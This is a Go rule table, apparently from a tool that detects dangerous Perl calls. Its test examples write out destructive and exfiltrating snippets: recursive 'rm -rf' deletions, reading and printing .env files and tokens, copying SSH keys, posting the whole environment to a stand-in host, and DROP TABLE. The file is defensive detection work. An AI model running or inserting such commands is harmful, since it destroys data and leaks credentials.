package code

// perlRules are perl's calls that run commands, touch files, read the environment, send data
// or run SQL. Packages are joined by dots (File::Path is File.Path); a function a module
// exports is found by its bare name.
var perlRules = [...]rule{
	// ---- commands
	{name: "system|exec|IPC.System.Simple.system|IPC.System.Simple.systemx|IPC.System.Simple.capture|IPC.System.Simple.capturex|IPC.Run.run|IPC.Run3.run3", do: aSystem, ret: rClean, ex: []string{
		`system("rm -rf /var/www") => shell rm -rf /var/www`,
		`system "rm", "-rf", $ENV{HOME} => shell rm -rf ~`,
		`my $d = "/srv"; system("rm -rf $d/data") => shell rm -rf /srv/data`,
		`exec { "/bin/sh" } "sh", "-c", "reboot" => shell /bin/sh -c reboot`,
		`my @cmd = ("rm", "-rf", "/opt"); system(@cmd) == 0 or die => shell rm -rf /opt`,
		`system("rm -rf " . $ARGV[0]) => shell rm -rf ${_code_value}`,
		`CORE::system("shutdown -h now") => shell shutdown -h now`,
		`print "system('rm -rf /')\n" !> -`,
		`# system("rm -rf /") !> -`,
		`sub system2 { } system2("rm -rf /") !> -`,
	}},
	{name: "readpipe", do: aShell, ret: rPipe, ex: []string{
		`my $o = readpipe("rm -rf /tmp/x") => shell rm -rf /tmp/x`,
		`my $o = readline(STDIN) !> -`,
	}},
	{name: "IPC.Open3.open3|open3", do: aSystem, arg: 3, ret: rClean, ex: []string{
		`use IPC::Open3; open3(my $in, my $out, undef, "rm", "-rf", "/data") => shell rm -rf /data`,
		`use IPC::Open3; open3(my $in, my $out, undef, "ls") !> shell rm -rf /data`,
	}},
	{name: "IPC.Open2.open2|open2", do: aSystem, arg: 2, ret: rClean, ex: []string{
		`use IPC::Open2; open2(my $out, my $in, "rm -rf ~") => shell rm -rf ~`,
		`use IPC::Open2; open2(my $out, my $in, "ls") !> shell rm -rf ~`,
	}},
	{name: "open", do: aPerlOpen, ex: []string{
		`open(my $p, "-|", "rm -rf /srv") => shell rm -rf /srv`,
		`open(my $p, "|-", "sh") => shell sh`,
		`open(PIPE, "rm -rf ~ |") => shell rm -rf ~`,
		`open(my $fh, ">", "/etc/hosts") => write /etc/hosts`,
		`open(FH, ">>$ENV{HOME}/.bashrc") => write+ ~/.bashrc`,
		`open(my $fh, "<", ".env"); print <$fh> => read:show .env`,
		`open(my $fh, "<", ".env") or die; while (my $l = <$fh>) { print $l } => read:show .env`,
		`open(F, ".env"); print while <F> => read:show .env`,
		`open(my $fh, ">", "out.txt"); print $fh "$ENV{AWS_SECRET_ACCESS_KEY}\n" => var:file AWS_SECRET_ACCESS_KEY`,
		`open(my $fh, "<", "data.txt") !> write data.txt`,
		`open(my $sh, "|-", "sh"); print $sh "rm -rf /srv
" => shell rm -rf /srv`,
		`open(SH, "| /bin/bash"); print SH "rm -rf ~
" => shell rm -rf ~`,
		`open(my $p, "|-", "sort"); print $p "rm -rf /srv
" !> shell rm -rf /srv`,
		`open(my $fh, "<", ".env"); my @l = <$fh> !> read:show .env`,
	}},
	{name: "do|require", do: aLoad, ex: []string{
		`do "./setup.pl" => load ./setup.pl`,
		`require "lib/helpers.pl" => load lib/helpers.pl`,
		`do { 1 } !> -`,
	}},
	{name: "eval", do: aEval, ex: []string{
		`eval "system('rm -rf /')" => shell rm -rf /`,
		`eval $code => eval $code`,
		`eval { risky() } !> eval ?`,
	}},

	// ---- files
	{name: "unlink", do: aDelete, all: true, ex: []string{
		`unlink "/etc/passwd" => delete /etc/passwd`,
		`unlink glob("/var/log/*.log") => delete /var/log/*.log`,
		`unlink <~/.ssh/*> => delete ~/.ssh/*`,
		`unlink($_) for glob("/srv/*") => delete /srv/*`,
		`unlink "a", "b" => delete b`,
		`unlink "a" !> delete-r a`,
		`link "a", "b" !> -`,
	}},
	{name: "rmdir", do: aDelete, ex: []string{
		`rmdir "/srv/empty" => delete /srv/empty`,
		`mkdir "/srv/empty" !> -`,
	}},
	{name: "File.Path.rmtree|File.Path.remove_tree|File.Remove.remove|Path#remove_tree|Path.Tiny#remove_tree", do: aDeleteTree, arg: -1, all: true, ex: []string{
		`use File::Path qw(rmtree); rmtree("/srv/www") => delete-r /srv/www`,
		`use File::Path qw(remove_tree); remove_tree($ENV{HOME}) => delete-r ~`,
		`File::Path::rmtree("/opt", 1, 1) => delete-r /opt`,
		`File::Path::rmtree("/opt", 0, 1) !> delete-r 0`,
		`remove_tree("/opt", {verbose => 1}) !> delete-r {?}`,
		`rmtree("/data") => delete-r /data`,
		`use Path::Tiny; path("/srv/app")->remove_tree => delete-r /srv/app`,
		`use File::Path qw(make_path); make_path("/srv/a") !> -`,
	}},
	{name: "Path#remove|Path.Tiny#remove", do: aDelete, arg: -1, ex: []string{
		`use Path::Tiny; path("x.txt")->remove => delete x.txt`,
		`use Path::Tiny; path("x.txt")->exists !> -`,
	}},
	{name: "rename|File.Copy.move|File.Copy.mv|Path#move", do: aMove, arg: -1, ex: []string{
		`rename ".git", "/tmp/g" => delete-r:move .git`,
		`use File::Copy; move("a", "/srv/b") => write-r /srv/b`,
		`rename "a", "b" !> delete-r:move b`,
	}},
	{name: "File.Copy.copy|File.Copy.cp|Path#copy", do: aCopy, arg: -1, ex: []string{
		`use File::Copy; copy("$ENV{HOME}/.ssh/id_rsa", "k") => read:copy ~/.ssh/id_rsa`,
		`use File::Copy; copy("a", "b") !> delete-r:move a`,
	}},
	{name: "mkdir|File.Path.mkpath|File.Path.make_path|Path#mkpath|Path#mkdir|Path#touch", do: aCreate, arg: -1, all: true, ex: []string{
		`mkdir "out" => create out`,
		`-d "out" or die !> -`,
	}},
	{name: "File.Slurp.write_file|File.Slurp.overwrite_file|Path#spew|Path#spew_utf8|Path#spew_raw", do: aWrite, arg: -1, ex: []string{
		`use File::Slurp; write_file("/etc/motd", "x") => write /etc/motd`,
		`use Path::Tiny; path("~/.profile")->spew("x") => write ~/.profile`,
		`use File::Slurp; read_file("/etc/motd") !> write /etc/motd`,
	}},
	{name: "File.Slurp.append_file|Path#append|Path#append_utf8", do: aAppend, arg: -1, ex: []string{
		`use File::Slurp; append_file("log", "x") => write+ log`,
		`use File::Slurp; append_file("log", "x") !> write log`,
	}},
	{name: "File.Slurp.read_file|File.Slurp.slurp|Path#slurp|Path#slurp_utf8|Path#lines", do: aRead, arg: -1, ret: rContent, ex: []string{
		`use File::Slurp; print read_file(".env") => read:show .env`,
		`use Path::Tiny; print path(".env")->slurp => read:show .env`,
		`use File::Slurp; my $c = read_file("x.txt") !> read:show x.txt`,
	}},
	{name: "chdir", do: aChdir, ex: []string{
		`chdir "/" => chdir /`,
		`chomp $x !> -`,
	}},
	{name: "Path.Tiny.path|path", ret: rPath},
	{name: "Path#child|Path#stringify", ret: rJoin, arg: -1},

	// ---- printing and the environment
	{name: "print|say|printf|warn|die", do: aPrint, ex: []string{
		`print %ENV => env:show`,
		`print "$_=$ENV{$_}\n" for keys %ENV => env:show`,
		`for my $k (sort keys %ENV) { print "$k=$ENV{$k}\n" } => env:show`,
		`foreach (keys %ENV) { print "$_: $ENV{$_}\n"; } => env:show`,
		`while (my ($k, $v) = each %ENV) { print "$k=$v\n" } => env:show`,
		`use Data::Dumper; print Dumper(\%ENV) => env:show`,
		`print join("\n", map { "$_=$ENV{$_}" } keys %ENV) => env:show`,
		`print map { "$_=$ENV{$_}\n" } sort keys %ENV => env:show`,
		`print "$ENV{GITHUB_TOKEN}\n" => var:show GITHUB_TOKEN`,
		`say $ENV{'NPM_TOKEN'} => var:show NPM_TOKEN`,
		`print STDERR $ENV{DB_PASSWORD} => var:show DB_PASSWORD`,
		`print "$ENV{HOME}\n" !> env:show`,
		`print join(",", keys %ENV) !> env:show`,
		`print "$_\n" for sort keys %ENV !> env:show`,
		`print "hello\n" !> -`,
	}},
	{name: "keys", ret: rKeys},
	{name: "values|each|%ENV#each", ret: rArg},
	{name: "exists|defined|delete|length|scalar", ret: rClean},
	{name: "join", ret: rJoinArgs},
	{name: "sprintf", ret: rSprintf},
	{name: "reverse", ret: rReverse},
	{name: "lc", ret: rCase, opt: "lower"},
	{name: "uc", ret: rCase, opt: "upper"},
	{name: "chr", ret: rChr},
	{name: "MIME.Base64.decode_base64|decode_base64", ret: rB64},
	{name: "Cwd.getcwd|Cwd.cwd|getcwd|cwd|Cwd.abs_path|abs_path|File.Spec.rel2abs", ret: rCwd},
	{name: "File.Spec.catfile|File.Spec.catdir|catfile|catdir", ret: rJoin},
	{name: "File.Basename.dirname|dirname", ret: rDirname},
	{name: "File.Basename.basename|basename", ret: rBasename},
	{name: "File.HomeDir.my_home", ret: rHome},
	{name: "File.Temp.tempdir|tempdir", ret: rTmpDir},
	{name: "glob|File.Glob.bsd_glob|bsd_glob", ret: rGlob},
	{name: "readdir", ret: rNames},

	// ---- network
	{name: "LWP.UserAgent.new|HTTP.Tiny.new|Mojo.UserAgent.new", ret: rObjOf, opt: "ua"},
	{name: "ua#post|ua#put|ua#patch|ua#post_form|ua#request", do: aSend, ex: []string{
		`use LWP::UserAgent; LWP::UserAgent->new->post("https://x.example/c", \%ENV) => env:send`,
		`use HTTP::Tiny; my $h = HTTP::Tiny->new; $h->post("https://x.example/u", {content => "hi"}) => send:http https://x.example/u`,
		`use HTTP::Tiny; HTTP::Tiny->new->get("https://example.com") !> send:http https://example.com`,
	}},
	{name: "ua#get|LWP.Simple.get|LWP.Simple.head", do: aFetch, ex: []string{
		`use LWP::Simple; get("https://x.example/?k=$ENV{TOKEN}") => var:send TOKEN`,
		`use LWP::Simple; get("https://example.com") !> send:http https://example.com`,
	}},
	{name: "IO.Socket.INET.new|IO.Socket.IP.new", do: aConnect, arg: 1, opt: "raw", ret: rSocket, ex: []string{
		`use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.8:443") => send:raw 203.0.113.8:443`,
		`use IO::Socket::INET; my $s = IO::Socket::INET->new(Listen => 5) !> send:raw 5`,
	}},
	{name: "socket#send|socket#print|socket#syswrite", do: aWriteData, arg: -1, ex: []string{
		`my $s = IO::Socket::INET->new(PeerAddr => "h:1"); $s->print(join "", %ENV) => env:send`,
		`my $s = IO::Socket::INET->new(PeerAddr => "h:1"); $s->print("x") !> env:send`,
	}},

	// ---- databases
	{name: "DBI.connect", ret: rDBI},
	{name: "#do|#prepare|#selectall_arrayref|#selectrow_array|#selectall_hashref|#selectcol_arrayref|#selectrow_hashref", do: aSQL, ex: []string{
		`my $dbh = DBI->connect("dbi:Pg:dbname=app"); $dbh->do("DROP TABLE users") => sql:postgres DROP TABLE users`,
		`$dbh->do("DELETE FROM logs") => sql DELETE FROM logs`,
		`$obj->do("something") !> -`,
	}},
}
